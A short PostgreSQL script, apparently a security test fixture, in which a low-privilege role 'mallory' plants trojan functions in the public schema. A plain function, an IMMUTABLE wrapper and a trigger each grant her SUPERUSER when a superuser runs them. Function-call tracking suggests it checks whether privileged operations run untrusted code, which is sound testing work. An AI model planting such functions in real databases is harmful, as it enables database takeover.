-- A role that may create things in public, and nothing else; what she wants is to be a superuser. Calls of her
-- functions are counted, whatever becomes of the transaction that they were in.
ALTER DATABASE postgres SET track_functions = 'all';
CREATE ROLE mallory LOGIN PASSWORD 'mallory';
GRANT USAGE, CREATE ON SCHEMA public TO mallory;
SET SESSION AUTHORIZATION mallory;
CREATE FUNCTION public.rob() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user)
       AND pg_catalog.current_setting('transaction_read_only') = 'off' THEN
        ALTER ROLE mallory SUPERUSER;
    END IF;
    RETURN true;
END $$;
-- May stand wherever an expression has to be immutable.
CREATE FUNCTION public.stolen(anyelement) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS
    $$ BEGIN RETURN public.rob(); END $$;
CREATE FUNCTION public.steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.stolen(1);
    RETURN coalesce(NEW, OLD);
END $$;
RESET SESSION AUTHORIZATION
